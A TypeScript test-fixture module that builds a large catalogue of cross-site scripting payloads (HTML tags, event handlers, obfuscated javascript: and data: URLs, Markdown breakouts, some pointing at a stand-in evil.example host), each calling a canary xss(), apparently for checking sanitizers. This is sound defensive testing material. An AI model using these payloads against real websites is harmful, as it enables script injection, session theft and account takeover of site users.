// XSS payloads: markup, addresses, and Markdown. Each calls `xss()`, so that a page can tell whether one ran. Assembled after the usual
// lists (OWASP, PortSwigger, the CommonMark and marked advisories).

import { ELEMENT_PAYLOADS } from "./xss-elements.ts";

const CALL = "xss()";
const QUOTES = ["", '"', "'", "`"] as const;

const MARKUP = [
  `<script>${CALL}</script>`,
  `<script src=data:,${CALL}></script>`,
  `<SCRIPT>${CALL}</SCRIPT>`,
  `<scr<script>ipt>${CALL}</scr</script>ipt>`,
  `<script/x>${CALL}</script>`,
  `</textarea><script>${CALL}</script>`,
  `</title><script>${CALL}</script>`,
  `</style><script>${CALL}</script>`,
  `--><script>${CALL}</script>`,
  `]]><script>${CALL}</script>`,
  `<!--><img src=x onerror=${CALL}>-->`,
  `<noscript><p title="</noscript><img src=x onerror=${CALL}>">`,
  `<math><mtext><table><mglyph><style><!--</style><img title="--&gt;&lt;img src=1 onerror=${CALL}&gt;">`,
  `<svg><style><img src=x onerror=${CALL}></style></svg>`,
  `<svg><script>${CALL}</script></svg>`,
  `<svg><a xlink:href="javascript:${CALL}"><text y=20>x</text></a></svg>`,
  `<svg><animate onbegin=${CALL} attributeName=x dur=1s>`,
  `<svg><set attributeName=onmouseover to=${CALL}>`,
  `<math href="javascript:${CALL}">x</math>`,
  `<iframe srcdoc="<script>parent.${CALL}</script>"></iframe>`,
  `<iframe src="javascript:parent.${CALL}"></iframe>`,
  `<object data="javascript:${CALL}"></object>`,
  `<embed src="javascript:${CALL}">`,
  `<form action="javascript:${CALL}"><button>x</button></form>`,
  `<form><button formaction="javascript:${CALL}">x</button></form>`,
  `<isindex action="javascript:${CALL}" type=submit>`,
  `<base href="javascript:${CALL}//">`,
  `<link rel=stylesheet href="javascript:${CALL}">`,
  `<link rel=import href="data:text/html,<script>${CALL}</script>">`,
  `<meta http-equiv=refresh content="0;url=javascript:${CALL}">`,
  `<style>@import 'javascript:${CALL}';</style>`,
  `<style>*{background:url(javascript:${CALL})}</style>`,
  `<div style="background:url(javascript:${CALL})">x</div>`,
  `<div style="width:expression(${CALL})">x</div>`,
  `<template><img src=x onerror=${CALL}></template>`,
  `<portal src="javascript:${CALL}">`,
  `<details open ontoggle=${CALL}>x</details>`,
  `<dialog open onclose=${CALL}><form method=dialog><button>x</button></form></dialog>`,
  `<input autofocus onfocus=${CALL}>`,
  `<marquee onstart=${CALL}>x</marquee>`,
];
const TAGS = [
  "img src=x",
  "svg",
  "body",
  "video src=x",
  "audio src=x",
  "input autofocus",
  "select autofocus",
  "iframe",
  "object data=x",
  "a href=# autofocus",
  "x tabindex=1 autofocus",
];
const HANDLERS = ["onerror", "onload", "onfocus", "onanimationend", "onpointerover"];
const HANDLED = TAGS.flatMap((tag) => HANDLERS.map((on, i) => `<${tag} ${on}=${QUOTES[i % 4]}${CALL}${QUOTES[i % 4]}>`));
const SEPARATED = ["/", "\n", "\t", "\f", "%0a", "&#10;", "\u00a0"].map((gap) => `<img${gap}src=x${gap}onerror=${CALL}>`);

const ADDRESSES = [
  `javascript:${CALL}`,
  `JaVaScRiPt:${CALL}`,
  `java\tscript:${CALL}`,
  `java\nscript:${CALL}`,
  `\u0001javascript:${CALL}`,
  ` javascript:${CALL}`,
  `javascript&colon;${CALL}`,
  `javascript&#58;${CALL}`,
  `javascript&#x3A;${CALL}`,
  `&#106;avascript:${CALL}`,
  `&#x6A;&#x61;vascript:${CALL}`,
  `java&Tab;script:${CALL}`,
  `java&NewLine;script:${CALL}`,
  `javascript:alert%281%29;${CALL}`,
  `javascript://example.com/%0a${CALL}`,
  `vbscript:${CALL}`,
  `data:text/html,<script>${CALL}</script>`,
  `data:text/html;base64,PHNjcmlwdD54c3MoKTwvc2NyaXB0Pg==`,
  `data:image/svg+xml,<svg onload=${CALL}>`,
  `view-source:javascript:${CALL}`,
  `feed:javascript:${CALL}`,
  `blob:null/${CALL}`,
  `/\\evil.example/${CALL}`,
  `//evil.example/${CALL}`,
  `/files/fil_01jd0000000000000000000000" onerror="${CALL}`,
  `/files/../login?${CALL}`,
  `/help/"onmouseover="${CALL}`,
  `#"onfocus="${CALL}" autofocus="`,
  `https://a.example/"onmouseover="${CALL}`,
  `https://a.example/<script>${CALL}</script>`,
];
const SYNTAX: ((address: string) => string)[] = [
  (a) => `[x](${a})`,
  (a) => `[x](<${a}>)`,
  (a) => `![x](${a})`,
  (a) => `<${a}>`,
  (a) => `[x][r]\n\n[r]: ${a}`,
  (a) => `[![x](${a})](${a})`,
  (a) => `| [x](${a}) |\n|---|\n| ![x](${a}) |`,
];

const BREAKING = [
  `![" onerror="${CALL}](/files/fil_01jd0000000000000000000000)`,
  `![x](/files/fil_01jd0000000000000000000000 "\\" onerror=${CALL}")`,
  `[x](https://a.example "\\" onmouseover=${CALL} x=\\"")`,
  `\`\`\`"><img src=x onerror=${CALL}>\nx\n\`\`\``,
  `\`\`\`js" onmouseover="${CALL}\nx\n\`\`\``,
  `\`</code><img src=x onerror=${CALL}>\``,
  `    </pre><img src=x onerror=${CALL}>`,
  `## "><img src=x onerror=${CALL}>`,
  `## <a id="x" onclick=${CALL}>x</a>`,
  `# \`<script>${CALL}</script>\``,
  `> [!NOTE" onmouseover="${CALL}]\n> x`,
  `> [!NOTE]\n> <img src=x onerror=${CALL}>`,
  `> <script>\n> ${CALL}\n> </script>`,
  `- <script>\n  ${CALL}\n  </script>`,
  `1. <img src=x onerror=${CALL}>`,
  `| <img src=x onerror=${CALL}> |\n|---|\n| <svg onload=${CALL}> |`,
  `**<b onmouseover=${CALL}>x</b>**`,
  `~~<script>${CALL}</script>~~`,
  `&lt;script&gt;${CALL}&lt;/script&gt;`,
  `&#60;script&#62;${CALL}&#60;/script&#62;`,
  `\\<script>${CALL}\\</script>`,
  `<script\n>${CALL}</script\n>`,
  `https://www.youtube.com/watch?v="onmouseover=${CALL}`,
  `https://www.youtube.com/watch?v=abc123XYZ_-&x=<script>${CALL}</script>`,
  `javascript:${CALL}//https://www.youtube.com/watch?v=abc123XYZ_-`,
  `www.example.com/"onmouseover="${CALL}`,
  `a@b.example"onmouseover="${CALL}`,
  `[^1]\n\n[^1]: <img src=x onerror=${CALL}>`,
  `{{constructor.constructor('${CALL}')()}}`,
  `\${${CALL}}`,
];

/** All payloads, without a particular order. */
export const XSS_PAYLOADS: readonly string[] = [
  ...new Set([
    ...MARKUP,
    ...HANDLED,
    ...SEPARATED,
    ...ADDRESSES.flatMap((address) => SYNTAX.map((write) => write(address))),
    ...BREAKING,
    ...ELEMENT_PAYLOADS,
  ]),
];
/** The payloads as lines of at most `max` characters, several in one where they fit: for titles, names and searches. */
export function xssLines(max: number): string[] {
  const lines: string[] = [];
  for (const payload of XSS_PAYLOADS) {
    const text = payload.replaceAll(/[\0\r\n]+/g, " ").trim();
    if (text === "" || text.length > max) continue;
    const last = lines.at(-1);
    if (last !== undefined && last.length + text.length < max) lines[lines.length - 1] = `${last} ${text}`;
    else lines.push(text);
  }
  return lines;
}
/** Closes whatever a payload leaves open, so that the next one in the same document is parsed independently. */
const ENDS = `-->]]>"'></script></style></title></textarea></xmp></noscript></select></template></svg></math></listing></iframe></object></form></table>`;
/** The payloads as one HTML document; `<plaintext>`, which nothing closes, comes last. */
export const xssHtml = (payloads: readonly string[]): string =>
  payloads
    .toSorted((a, b) => Number(a.includes("<plaintext>")) - Number(b.includes("<plaintext>")))
    .map((payload) => `${payload}\n${ENDS}<p>-</p>\n`)
    .join("");
